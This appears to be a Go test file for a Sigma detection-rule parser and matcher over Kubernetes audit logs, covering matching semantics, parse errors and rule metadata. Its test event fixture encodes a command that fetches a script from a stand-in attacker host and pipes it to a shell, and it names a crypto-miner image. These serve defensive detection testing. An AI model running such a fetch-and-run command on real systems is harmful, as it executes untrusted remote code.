package sigma

import (
	"encoding/base64"
	"errors"
	"strings"
	"testing"

	"github.com/auditdetect/auditdetect/processor/engine"
	"github.com/auditdetect/auditdetect/processor/rule"
)

// testEvent is an exec into a pod, with arrays, a key with dots and a slash, numbers and a base64 payload.
var testEvent = `{"kind":"Event","verb":"create","stage":"ResponseComplete",
"user":{"username":"Alice","groups":["dev","system:authenticated"]},"impersonatedUser":{"username":"alice"},
"sourceIPs":["10.1.2.3","192.168.0.9"],"userAgent":"kubectl/v1.30.2 (linux/amd64)",
"requestURI":"/api/v1/namespaces/shop/pods/web/exec?command=%2Fbin%2Fsh&command=-c",
"objectRef":{"resource":"pods","namespace":"shop","name":"web","subresource":"exec"},
"responseStatus":{"code":403},"annotations":{"authorization.k8s.io/decision":"forbid"},
"requestObject":{"spec":{"containers":[{"image":"evil.io/miner:1"},{"image":"nginx"}]},
"data":{"payload":"` + base64.StdEncoding.EncodeToString([]byte("curl -s http://evil.example/x | sh")) + `","word":"a3ViZWN0bA=="},
"cmd":"tool /verbose run"}}`

func sigmaRule(detection string) string {
	return "title: Test\nid: t-1\nlevel: high\nlogsource: {product: kubernetes, service: audit}\ndetection:\n" + detection
}

func matches(t *testing.T, doc string) bool {
	t.Helper()
	return matchesOn(t, doc, testEvent)
}

func matchesOn(t *testing.T, doc, body string) bool {
	t.Helper()
	r, err := Parse("t.yml", []byte(doc))
	if err != nil {
		t.Fatalf("Parse: %v", err)
	}
	e, err := engine.Compile([]*rule.Rule{r}, engine.Options{})
	if err != nil {
		t.Fatalf("Compile: %v", err)
	}
	ms, err := e.Match([]byte(body))
	if err != nil {
		t.Fatal(err)
	}
	return len(ms) == 1
}

func TestDetectionSemantics(t *testing.T) {
	tests := []struct {
		name, detection string
		want            bool
	}{
		{"map is AND", "  sel: {verb: create, objectRef.resource: pods}\n  condition: sel", true},
		{"map is AND, one fails", "  sel: {verb: create, objectRef.resource: secrets}\n  condition: sel", false},
		{"value list is OR", "  sel: {verb: [get, create]}\n  condition: sel", true},
		{"list of maps is OR", "  sel:\n    - {verb: get}\n    - {objectRef.resource: pods}\n  condition: sel", true},
		{"values are case-insensitive", "  sel: {user.username: ALICE}\n  condition: sel", true},
		{"cased", "  sel: {user.username|cased: alice}\n  condition: sel", false},
		{"wildcards * and ?", "  sel: {userAgent: 'kubectl/v1.?0.*'}\n  condition: sel", true},
		{"escaped wildcard is literal", `  sel: {userAgent: 'kubectl\*'}` + "\n  condition: sel", false},
		{"arrays are transparent", "  sel: {requestObject.spec.containers.image|startswith: evil.io/}\n  condition: sel", true},
		{"multi-valued field: any value", "  sel: {user.groups: system:authenticated}\n  condition: sel", true},
		{"key with dots and a slash", "  sel: {annotations.authorization.k8s.io/decision: forbid}\n  condition: sel", true},
		{"contains", "  sel: {requestURI|contains: '%2Fbin%2Fsh'}\n  condition: sel", true},
		{"endswith", "  sel: {requestURI|endswith: 'command=-c'}\n  condition: sel", true},
		{"contains|all needs every value", "  sel: {requestURI|contains|all: [exec, nothing-like-this]}\n  condition: sel", false},
		{"contains|all", "  sel: {requestURI|contains|all: [exec, command]}\n  condition: sel", true},
		{"re is case-sensitive", "  sel: {user.username|re: '^alice$'}\n  condition: sel", false},
		{"re|i", "  sel: {user.username|re|i: '^alice$'}\n  condition: sel", true},
		{"cidr over an array", "  sel: {sourceIPs|cidr: 192.168.0.0/16}\n  condition: sel", true},
		{"cidr miss", "  sel: {sourceIPs|cidr: 172.16.0.0/12}\n  condition: sel", false},
		{"exists true", "  sel: {objectRef.subresource|exists: true}\n  condition: sel", true},
		{"exists false", "  sel: {objectRef.apiGroup|exists: false}\n  condition: sel", true},
		{"null is absent", "  sel: {objectRef.apiGroup: null}\n  condition: sel", true},
		{"null on a present field", "  sel: {verb: null}\n  condition: sel", false},
		{"empty string is not null", "  sel: {objectRef.apiGroup: ''}\n  condition: sel", false},
		{"gte", "  sel: {responseStatus.code|gte: 400}\n  condition: sel", true},
		{"lt", "  sel: {responseStatus.code|lt: 400}\n  condition: sel", false},
		{"number value", "  sel: {responseStatus.code: 403}\n  condition: sel", true},
		{"fieldref ignores case by default", "  sel: {user.username|fieldref: impersonatedUser.username}\n  condition: sel", true},
		{"fieldref|cased", "  sel: {user.username|fieldref|cased: impersonatedUser.username}\n  condition: sel", false},
		{"windash", "  sel: {requestObject.cmd|windash|contains: ' -verbose '}\n  condition: sel", true},
		{"base64 whole value", "  sel: {requestObject.data.word|base64: kubectl}\n  condition: sel", true},
		{"base64offset|contains", "  sel: {requestObject.data.payload|base64offset|contains: evil.example}\n  condition: sel", true},
		{"base64offset|contains miss", "  sel: {requestObject.data.payload|base64offset|contains: good.example}\n  condition: sel", false},
		{"and, or, not, parentheses", "  a: {verb: create}\n  b: {verb: get}\n  c: {objectRef.resource: secrets}\n  condition: a and not (b or c)", true},
		{"not binds tighter than and", "  a: {verb: create}\n  c: {objectRef.resource: secrets}\n  condition: not c and a", true},
		{"and binds tighter than or", "  a: {verb: get}\n  b: {verb: create}\n  c: {objectRef.resource: secrets}\n  condition: a and c or b", true},
		{"1 of pattern", "  sel_a: {verb: get}\n  sel_b: {verb: create}\n  condition: 1 of sel_*", true},
		{"all of pattern", "  sel_a: {verb: get}\n  sel_b: {verb: create}\n  condition: all of sel_*", false},
		{"1 of them", "  a: {verb: get}\n  b: {verb: create}\n  condition: 1 of them", true},
		{"all of them leaves out _ identifiers", "  a: {verb: create}\n  _never: {verb: get}\n  condition: all of them", true},
		{"all of one list identifier ORs its items", "  sel:\n    - {verb: create}\n    - {verb: get}\n  condition: all of sel", true},
		{"keywords are case-insensitive", "  a: {verb: create}\n  b: {verb: get}\n  condition: a AND NOT b", true},
		{"condition list is OR", "  a: {verb: get}\n  b: {verb: create}\n  condition: [a, b]", true},
		{"a wrong field path never matches (run as written)", "  sel: {capabilities: '*'}\n  condition: sel", false},
		{"neq", "  sel: {verb|neq: get}\n  condition: sel", true},
		{"neq on the value", "  sel: {verb|neq: CREATE}\n  condition: sel", false},
		{"neq on a list: none of the values", "  sel: {verb|neq: [get, create]}\n  condition: sel", false},
		{"neq on a list, none equal", "  sel: {verb|neq: [get, list]}\n  condition: sel", true},
		{"neq on an absent field is true (NOT field=value)", "  sel: {objectRef.apiGroup|neq: apps}\n  condition: sel", true},
		{"neq on a multi-valued field: no value may equal", "  sel: {user.groups|neq: dev}\n  condition: sel", false},
		{"neq on a number", "  sel: {responseStatus.code|neq: 200}\n  condition: sel", true},
		{"neq|contains", "  sel: {requestURI|contains|neq: exec}\n  condition: sel", false},
		{"fieldref|neq", "  sel: {user.username|fieldref|neq: impersonatedUser.username}\n  condition: sel", false},
		{"fieldref|cased|neq", "  sel: {user.username|fieldref|cased|neq: impersonatedUser.username}\n  condition: sel", true},
		{"neq null: present and not null", "  sel: {verb|neq: null}\n  condition: sel", true},
		{"neq null on an absent field", "  sel: {objectRef.apiGroup|neq: null}\n  condition: sel", false},
		{"all|neq: not every value", "  sel: {requestURI|contains|all|neq: [exec, nothing-like-this]}\n  condition: sel", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := matches(t, sigmaRule(tt.detection)); got != tt.want {
				t.Errorf("matched %v, want %v", got, tt.want)
			}
		})
	}
}

func TestParseErrors(t *testing.T) {
	tests := []struct {
		name, doc string
		line, col int
		reason    string
	}{
		{"other logsource", "title: T\nlogsource: {product: windows, service: security}\ndetection: {sel: {a: b}, condition: sel}\n", 2, 12, `logsource product "windows", service "security" is not Kubernetes audit`},
		{"no logsource", "title: T\ndetection: {sel: {a: b}, condition: sel}\n", 1, 1, "missing `logsource`"},
		{"unknown modifier", sigmaRule("  sel: {verb|sounds_like: x}\n  condition: sel"), 6, 9, `unknown modifier "sounds_like"`},
		{"keyword search", sigmaRule("  keywords: [evil, bad]\n  condition: keywords"), 6, 14, "keyword search"},
		{"unknown identifier", sigmaRule("  sel: {verb: get}\n  condition: sel and other"), 7, 22, `unknown search identifier "other"`},
		{"aggregation", sigmaRule("  sel: {verb: get}\n  condition: sel | count() > 5"), 7, 18, "aggregations in the condition"},
		{"missing parenthesis", sigmaRule("  sel: {verb: get}\n  condition: (sel"), 7, 18, "missing `)`"},
		{"pattern without quantifier", sigmaRule("  sel: {verb: get}\n  condition: sel*"), 7, 14, "needs `1 of` or `all of`"},
		{"pattern matching nothing", sigmaRule("  sel: {verb: get}\n  condition: 1 of x*"), 7, 19, `"x*" matches no search identifier`},
		{"exists takes a boolean", sigmaRule("  sel: {verb|exists: maybe}\n  condition: sel"), 6, 22, "exists takes true or false"},
		{"bad regex", sigmaRule("  sel: {verb|re: '(('}\n  condition: sel"), 6, 18, "invalid regular expression"},
		{"bad cidr", sigmaRule("  sel: {sourceIPs|cidr: 10.0.0.300/8}\n  condition: sel"), 6, 25, "invalid CIDR"},
		{"gt takes a number", sigmaRule("  sel: {responseStatus.code|gt: many}\n  condition: sel"), 6, 33, "take a number"},
		{"contains with re", sigmaRule("  sel: {verb|contains|re: x}\n  condition: sel"), 6, 9, "contains, startswith, endswith"},
		{"encoding without base64", sigmaRule("  sel: {verb|wide: x}\n  condition: sel"), 6, 9, `"wide" must be followed by base64`},
		{"base64 of a wildcard", sigmaRule("  sel: {verb|base64: 'a*'}\n  condition: sel"), 6, 22, "cannot encode a value with wildcards"},
		{"missing condition", sigmaRule("  sel: {verb: get}"), 6, 3, "missing `condition`"},
		{"correlation rule", "title: T\ncorrelation: {type: event_count, rules: [x]}\n", 2, 1, "a Sigma correlation rule is read with the rules it names"},
		{"two documents", sigmaRule("  sel: {verb: get}\n  condition: sel") + "\n---\n" + sigmaRule("  sel: {verb: get}\n  condition: sel"), 8, 0, "several YAML documents"},
		{"unknown level", strings.Replace(sigmaRule("  sel: {verb: get}\n  condition: sel"), "level: high", "level: severe", 1), 3, 8, `unknown level "severe"`},
		{"invalid YAML", "title: T\ndetection:\n  sel: \"unterminated\n", 3, 0, "invalid YAML"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) { wantParseError(t, tt.doc, tt.line, tt.col, tt.reason) })
	}
}

// wantParseError checks that Parse refuses doc with a *rule.Error at line:col whose reason contains reason.
func wantParseError(t *testing.T, doc string, line, col int, reason string) {
	t.Helper()
	_, err := Parse("t.yml", []byte(doc))
	var e *rule.Error
	if !errors.As(err, &e) {
		t.Fatalf("error %T %v, want *rule.Error", err, err)
	}
	if e.File != "t.yml" || e.Line != line || e.Column != col || !strings.Contains(e.Reason, reason) {
		t.Errorf("got %d:%d %q, want %d:%d containing %q", e.Line, e.Column, e.Reason, line, col, reason)
	}
}

func TestRuleFields(t *testing.T) {
	doc := `title: Exec Into Pod
id: 11111111-2222-3333-4444-555555555555
description: kubectl exec
level: critical
tags: [attack.execution, attack.t1609, attack.T1552.007, attack.stealth, cve.2024-1234]
logsource: {category: application, product: Kubernetes, service: Audit}
detection:
  sel: {objectRef.subresource: exec}
  condition: sel
`
	r, err := Parse("x.yml", []byte(doc))
	if err != nil {
		t.Fatal(err)
	}
	if r.ID != "11111111-2222-3333-4444-555555555555" || r.Name != "Exec Into Pod" || r.Description != "kubectl exec" {
		t.Errorf("metadata %q %q %q", r.ID, r.Name, r.Description)
	}
	if r.Origin != (rule.Origin{File: "x.yml", Line: 7, Format: "sigma"}) {
		t.Errorf("origin %+v", r.Origin)
	}
	if got := strings.Join(r.MitreTechniques, ","); got != "T1609,T1552.007" {
		t.Errorf("techniques %q", got)
	}
	if got := strings.Join(r.MitreTactics, ","); got != "TA0002" {
		t.Errorf("tactics %q (stealth has no tactic id in the table)", got)
	}
	if len(r.Risk.Objects) != 1 || r.Risk.Objects[0].Score != 99 || r.Risk.Objects[0].Field != "user.username" {
		t.Errorf("risk objects %+v", r.Risk.Objects)
	}
	if len(r.Risk.Threats) != 1 || r.Risk.Threats[0] != (rule.ThreatObject{Field: "src_ip", Type: "ip_address"}) {
		t.Errorf("threats %+v", r.Risk.Threats)
	}
}

func TestStatus(t *testing.T) {
	for _, tc := range []struct{ line, want string }{{"status: test\n", "test"}, {"status: DEPRECATED\n", "deprecated"}, {"", ""},
		{"status: [test, deprecated]\n", ""}, {"status: {a: b}\n", ""}} {
		doc := "title: S\n" + tc.line + "logsource: {product: kubernetes, service: audit}\ndetection:\n  sel: {verb: get}\n  condition: sel\n"
		r, err := Parse("s.yml", []byte(doc))
		if err != nil {
			t.Fatal(err)
		}
		if r.Status != tc.want || r.Deprecated() != (tc.want == "deprecated") {
			t.Errorf("%q: status %q, deprecated %v", tc.line, r.Status, r.Deprecated())
		}
	}
}

func TestLevelScores(t *testing.T) {
	for level, want := range map[string]int{"informational": 5, "low": 21, "medium": 47, "high": 73, "critical": 99, "": 47} {
		doc := strings.Replace(sigmaRule("  sel: {verb: get}\n  condition: sel"), "level: high", "level: "+level, 1)
		r, err := Parse("x.yml", []byte(doc))
		if err != nil {
			t.Fatal(err)
		}
		if got := r.Risk.Objects[0].Score; got != want {
			t.Errorf("level %q: score %d, want %d", level, got, want)
		}
	}
}

func TestIsRule(t *testing.T) {
	for _, tt := range []struct {
		doc  string
		want bool
	}{
		{sigmaRule("  sel: {verb: get}\n  condition: sel"), true},
		{"title: C\ncorrelation: {type: event_count}\n", true},
		{"name: ESCU\nsearch: verb=get\n", false},
		{"[rule]\nname = 'x'\n", false},
		{"- a\n- b\n", false},
	} {
		if got := IsRule([]byte(tt.doc)); got != tt.want {
			t.Errorf("IsRule(%q) = %v, want %v", tt.doc, got, tt.want)
		}
	}
}

func TestBase64Offsets(t *testing.T) {
	// pySigma's expansion of "foobar".
	if got := strings.Join(base64Offsets([]byte("foobar")), " "); got != "Zm9vYmFy Zvb2Jhc mb29iYX" {
		t.Errorf("base64offset(foobar) = %s", got)
	}
}

func TestWindash(t *testing.T) {
	got := windash("cmd -a /b x-y")
	if len(got) != 25 || got[0] != "cmd -a -b x-y" || got[24] != "cmd ―a ―b x-y" {
		t.Errorf("windash: %d variants, first %q, last %q", len(got), got[0], got[len(got)-1])
	}
	if windash(strings.Repeat(" -a", 5)) != nil {
		t.Error("windash past the limit should refuse")
	}
}

// TestYAML11Scalars: plain values are read as pySigma reads them, YAML 1.1 types: yes/on/off are booleans and 0777,
// 0x1FF, 0b11, 1_000 integers, compared in the form the backends write (true, 511). Quoted values stay text.
func TestYAML11Scalars(t *testing.T) {
	const ev = `{"kind":"Event","verb":"create","responseStatus":{"code":403},"requestObject":{"spec":{"hostNetwork":true,` +
		`"hostPID":false,"volumes":[{"secret":{"defaultMode":511}}],"replicas":1000,"word":"yes","mode":"0777"}}}`
	for sel, want := range map[string]bool{
		"requestObject.spec.hostNetwork: yes":                        true,
		"requestObject.spec.hostNetwork: On":                         true,
		"requestObject.spec.hostPID: off":                            true,
		"requestObject.spec.hostPID: NO":                             true,
		"requestObject.spec.hostNetwork: no":                         false,
		"requestObject.spec.volumes.secret.defaultMode: 0777":        true,
		"requestObject.spec.volumes.secret.defaultMode: 0x1FF":       true,
		"requestObject.spec.volumes.secret.defaultMode: 0b111111111": true,
		"requestObject.spec.replicas: 1_000":                         true,
		"responseStatus.code: +403":                                  true,
		"requestObject.spec.word: 'yes'":                             true, // quoted: text
		"requestObject.spec.word: yes":                               false,
		"requestObject.spec.mode: '0777'":                            true,
		"requestObject.spec.mode: 0777":                              false,
		"requestObject.spec.mode: 09":                                false, // not octal: text "09"
		"requestObject.spec.mode|contains: 077":                      true,  // a modifier reads the text
		"responseStatus.code: 403.0":                                 true,  // a float is a number
		"responseStatus.code: 4.03e2":                                true,
		"responseStatus.code: 403.5":                                 false,
	} {
		doc := sigmaRule("  sel:\n    " + sel + "\n  condition: sel\n")
		if got := matchesOn(t, doc, ev); got != want {
			t.Errorf("%s: matched %v, want %v", sel, got, want)
		}
	}
}
